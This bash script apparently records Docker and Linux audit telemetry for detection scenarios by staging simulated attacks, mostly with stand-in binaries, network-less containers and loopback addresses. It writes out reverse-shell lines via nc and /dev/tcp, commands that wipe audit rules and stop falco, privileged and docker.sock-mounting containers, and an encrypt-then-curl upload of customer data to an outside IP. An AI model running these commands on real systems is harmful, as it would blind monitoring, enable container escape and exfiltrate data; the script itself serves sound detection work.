#!/usr/bin/env bash
# Re-records the native telemetry of the shipped scenarios from real runs on this machine:
# Docker events + inspect documents from the local engine, and Linux audit records.
# Needs root, a running dockerd and auditd (bash scripts/test-env.sh) and the image
# stowaway/busybox:test. Everything it creates carries the label stowaway.scenario and is removed.
#
#   bash content/strategies/record-scenarios.sh            # all scenarios
#   bash content/strategies/record-scenarios.sh NAME...    # only these
set -euo pipefail
cd "$(dirname "$0")"
IMG=stowaway/busybox:test
KEY=stowaway-h4rec
STAND=/tmp/stowaway-rec          # stand-in executables named like the real tools
DATA=/srv/stowaway-scenario-data # host "data" for the exfiltration scenarios
SHARE=/mnt/stowaway-share        # host path standing in for an sshfs/cifs mount
AUDIT_LOG=/var/log/audit/audit.log

mkdir -p "$STAND" "$DATA" "$SHARE/share" /tmp/stowaway-backup
echo "customer,card" > "$DATA/customers.csv"
echo "secret" > /tmp/stowaway-sensitive.txt
for t in auditctl systemctl VBoxManage qemu-system-x86_64 openssl curl pkill; do cp /bin/true "$STAND/$t"; done

audit_on() {
  auditctl -a always,exit -F arch=b64 -S execve -k "$KEY" >/dev/null 2>&1 || true
  auditctl -w /etc/containerd/config.toml -p wa -k "$KEY" >/dev/null 2>&1 || true
  auditctl -w /etc/audit/auditd.conf -p wa -k "$KEY" >/dev/null 2>&1 || true
}
audit_off() {
  auditctl -d always,exit -F arch=b64 -S execve -k "$KEY" >/dev/null 2>&1 || true
  auditctl -W /etc/containerd/config.toml -p wa -k "$KEY" >/dev/null 2>&1 || true
  auditctl -W /etc/audit/auditd.conf -p wa -k "$KEY" >/dev/null 2>&1 || true
}
trap audit_off EXIT

# Audit logs hex-encode arguments with spaces or quotes: match a marker in both spellings.
hexalt() {
  local out="" m
  IFS='|' read -ra ms <<< "$1"
  for m in "${ms[@]}"; do out+="${out:+|}$m|$(printf '%s' "$m" | od -An -tx1 | tr -d ' \n' | tr a-f A-F)"; done
  printf '%s' "$out"
}

# Keeps the audit events (all records of a serial) whose records match $2, from byte offset $1 of
# the log as it was when recording began. A busy host rotates audit.log quickly: when the file is
# now smaller than the offset, the rest of the rotated file comes first. The key is not required:
# when another tool's audit rule matches first, the kernel logs the event under that rule's key.
audit_slice() {
  local from=$1 pattern
  pattern=$(hexalt "$2")
  {
    if [ "$(stat -c %s "$AUDIT_LOG")" -lt "$from" ] && [ -f "$AUDIT_LOG.1" ]; then tail -c +"$((from + 1))" "$AUDIT_LOG.1"; cat "$AUDIT_LOG"
    else tail -c +"$((from + 1))" "$AUDIT_LOG"; fi
  } | awk -v pat="$pattern" '
    { if (match($0, /msg=audit\([0-9.]+:[0-9]+\)/)) { s = substr($0, RSTART, RLENGTH); lines[++n] = $0; ser[n] = s;
        if ($0 ~ pat) hit[s] = 1 } }
    END { for (i = 1; i <= n; i++) if (hit[ser[i]]) print lines[i] }'
}

# record DIR NAME FUNCTION [AUDIT_PATTERN]: runs FUNCTION, keeps its Docker events, inspect
# documents (captured by `inspect_now`) and, with a pattern, its audit records.
record() {
  local dir=$1 name=$2 fn=$3 pattern=${4:-}
  local out="$dir/scenarios/$name"
  local since off
  echo "recording $dir/$name"
  : > "$out.inspect.json.tmp"
  since=$(date +%s.%N)
  off=$(stat -c %s "$AUDIT_LOG")
  [ -n "$pattern" ] && audit_on
  SCEN=$name INSPECT="$out.inspect.json.tmp" "$fn"
  sleep 1.5
  [ -n "$pattern" ] && { audit_off; audit_slice "$off" "$pattern" > "$out.audit.log"; }
  docker ps -aq --filter "label=stowaway.scenario=$name" | xargs -r docker rm -f -v >/dev/null
  docker events --since "$since" --until "$(date +%s.%N)" --filter "label=stowaway.scenario=$name" --format '{{json .}}' > "$out.docker-events.jsonl"
  if [ -s "$out.inspect.json.tmp" ]; then jq -s 'add' "$out.inspect.json.tmp" > "$out.inspect.json"; fi
  rm -f "$out.inspect.json.tmp"
  [ -s "$out.docker-events.jsonl" ] || rm -f "$out.docker-events.jsonl"
}
inspect_now() { docker inspect "$@" >> "$INSPECT"; }
run() { docker run -d --label "stowaway.scenario=$SCEN" --network none "$@"; }
create() { docker create --label "stowaway.scenario=$SCEN" --network none "$@"; }

# ---- ADS-0001 network shares
s_share_copy() {
  local c; c=$(run --name "$SCEN" -v "$SHARE:/mnt/admin" -v /tmp/stowaway-sensitive.txt:/data/sensitivefile.txt:ro $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" cp /data/sensitivefile.txt /mnt/admin/share/sensitivefile.txt
  docker exec "$c" mount -t cifs //fileserver/admin /mnt/admin -o username=svc || true
  local v; v=$(create --name "$SCEN-cifs" --mount "type=volume,dst=/mnt/share,volume-driver=local,volume-opt=type=cifs,volume-opt=device=//fileserver/admin,volume-opt=o=username=svc" $IMG sleep 60)
  inspect_now "$v"
}
s_backup_local_copy() {
  local c; c=$(run --name "$SCEN" -v /tmp/stowaway-backup:/backup $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" cp /etc/hostname /backup/hostname.bak
  docker exec "$c" sh -c 'cp -r /etc /tmp/build-etc && ls /tmp/build-etc >/dev/null'
}

# ---- ADS-0002 monitoring evasion
s_log_none_unapproved() {
  docker tag $IMG registry.example.net:5000/tools/busybox:1
  local c; c=$(run --name "$SCEN" --log-driver none registry.example.net:5000/tools/busybox:1 sleep 60)
  inspect_now "$c"
  docker rmi registry.example.net:5000/tools/busybox:1 >/dev/null 2>&1 || true
}
s_net_admin_reroute() {
  local c; c=$(run --name "$SCEN" --cap-add NET_ADMIN $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" ip route add 10.66.0.0/16 dev lo
  docker exec "$c" iptables -F || true
}
s_approved_default_logging() {
  local c; c=$(run --name "$SCEN" $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" ip route show
}
s_blind_audit() {
  "$STAND/auditctl" -D
  "$STAND/auditctl" -e 0
  "$STAND/systemctl" stop falco
  "$STAND/pkill" -9 falco
  : >> /etc/containerd/config.toml
  : >> /etc/audit/auditd.conf
}
s_audit_status_check() {
  "$STAND/auditctl" -l
  "$STAND/auditctl" -d always,exit -F arch=b64 -S ptrace -k old-rule
  "$STAND/auditctl" -s
  "$STAND/systemctl" status falco
  cat /etc/containerd/config.toml /etc/audit/auditd.conf >/dev/null
}

# ---- ADS-0003 privileged and escape-prone containers
s_escape_prone() {
  local c
  c=$(create --name "$SCEN-priv" --privileged $IMG sleep 60); inspect_now "$c"
  c=$(docker run -d --label "stowaway.scenario=$SCEN" --name "$SCEN-hostns" --pid host --network host $IMG sleep 60); inspect_now "$c"
  c=$(run --name "$SCEN-caps" --cap-add SYS_ADMIN --cap-add SYS_PTRACE $IMG sleep 60); inspect_now "$c"
  c=$(run --name "$SCEN-sock" -v /var/run/docker.sock:/var/run/docker.sock -v /:/host:ro $IMG sleep 60); inspect_now "$c"
  docker exec "$c" nc -e /bin/sh 127.0.0.1 9 || true
  bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' || true
}
s_plain_dev_container() {
  mkdir -p /tmp/stowaway-src
  local c; c=$(run --name "$SCEN" -v /tmp/stowaway-src:/src -w /src $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" sh -c 'ls /src; echo build ok'
  bash -c 'echo ok > /dev/null; nc -h >/dev/null 2>&1 || true'
}

# ---- ADS-0004 virtual instances
s_vbox_qemu() {
  "$STAND/VBoxManage" createvm --name HiddenVM --register
  "$STAND/VBoxManage" modifyvm HiddenVM --memory 1024 --cpus 1
  "$STAND/VBoxManage" storageattach HiddenVM --storagectl SATA --port 0 --device 0 --type hdd --medium /tmp/HiddenVM.vdi
  "$STAND/VBoxManage" startvm HiddenVM --type headless
  "$STAND/qemu-system-x86_64" -m 512 -nographic -daemonize -hda /tmp/hidden.qcow2
  local c; c=$(create --name "$SCEN-kvm" --device /dev/kvm $IMG sleep 60); inspect_now "$c"
}
s_vbox_inventory() {
  "$STAND/VBoxManage" list vms
  "$STAND/VBoxManage" --version
  "$STAND/qemu-system-x86_64" --version
}

# ---- ADS-0005 encrypted exfiltration
s_encrypt_upload_exec() {
  local c; c=$(docker run -d --rm --label "stowaway.scenario=$SCEN" --network none --name "$SCEN" -v "$DATA:/mnt/data:ro" $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" openssl enc -aes-256-cbc -pbkdf2 -in /mnt/data/customers.csv -out /tmp/c.enc -k hunter2 || true
  docker exec "$c" curl -k -T /tmp/c.enc https://203.0.113.10:8443/upload || true
}
s_encrypt_upload_cmd() {
  local c; c=$(docker run -d --rm --label "stowaway.scenario=$SCEN" --network none --name "$SCEN" -v "$DATA:/mnt/data:ro" $IMG sh -c \
    'sleep 1; cp /bin/busybox /tmp/openssl; cp /bin/busybox /tmp/curl; /tmp/openssl enc -aes-256-cbc -in /mnt/data/customers.csv -out /tmp/c.enc -k x; /tmp/curl -T /tmp/c.enc https://203.0.113.10:8443/u; true')
  inspect_now "$c"
  docker wait "$c" >/dev/null 2>&1 || true
}
s_encrypted_backup_local() {
  local c; c=$(run --name "$SCEN" --label backup=nightly -v /tmp/stowaway-backup:/backup $IMG sleep 60)
  inspect_now "$c"
  docker exec "$c" sh -c 'gpg --symmetric --batch --passphrase-file /run/secrets/backup -o /backup/db.gpg /var/lib/db.dump; true'
  docker exec "$c" sh -c 'ls -l /backup'
}

s_encrypted_backup_upload() {
  docker tag $IMG registry.example.net/ops/backup-agent:3
  local c; c=$(run --name "$SCEN" --label backup=nightly -v /tmp/stowaway-backup:/backup registry.example.net/ops/backup-agent:3 sleep 60)
  inspect_now "$c"
  docker exec "$c" gpg --symmetric --batch --passphrase-file /run/secrets/backup -o /backup/db.gpg /backup/db.dump || true
  docker exec "$c" curl -T /backup/db.gpg https://backup.example.net/upload/db.gpg || true
  docker rmi registry.example.net/ops/backup-agent:3 >/dev/null 2>&1 || true
}

want() { [ $# -eq 0 ] && return 0; }
ALL=(
  "ads-0001-network-share-collection share-copy s_share_copy"
  "ads-0001-network-share-collection backup-local-copy s_backup_local_copy"
  "ads-0002-container-monitoring-evasion log-none-unapproved s_log_none_unapproved"
  "ads-0002-container-monitoring-evasion net-admin-reroute s_net_admin_reroute"
  "ads-0002-container-monitoring-evasion approved-default-logging s_approved_default_logging"
  "ads-0002-container-monitoring-evasion blind-audit s_blind_audit stowaway-rec|containerd/config.toml|audit/auditd.conf"
  "ads-0002-container-monitoring-evasion audit-status-check s_audit_status_check stowaway-rec|containerd/config.toml|audit/auditd.conf"
  "ads-0003-privileged-container-escape escape-prone s_escape_prone dev/tcp"
  "ads-0003-privileged-container-escape plain-dev-container s_plain_dev_container nc -h|echo ok"
  "ads-0004-virtual-instance-evasion vbox-qemu s_vbox_qemu stowaway-rec"
  "ads-0004-virtual-instance-evasion vbox-inventory s_vbox_inventory stowaway-rec"
  "ads-0005-encrypted-exfiltration-from-containers encrypt-upload-exec s_encrypt_upload_exec"
  "ads-0005-encrypted-exfiltration-from-containers encrypt-upload-cmd s_encrypt_upload_cmd /tmp/openssl|/tmp/curl"
  "ads-0005-encrypted-exfiltration-from-containers encrypted-backup-local s_encrypted_backup_local"
  "ads-0005-encrypted-exfiltration-from-containers encrypted-backup-upload s_encrypted_backup_upload"
)
for row in "${ALL[@]}"; do
  read -r dir name fn pattern <<< "$row"
  if [ $# -gt 0 ] && ! printf '%s\n' "$@" | grep -qx "$name"; then continue; fi
  record "$dir" "$name" "$fn" "${pattern:-}"
done
rm -rf "$STAND" "$SHARE" "$DATA" /tmp/stowaway-backup /tmp/stowaway-src /tmp/stowaway-sensitive.txt
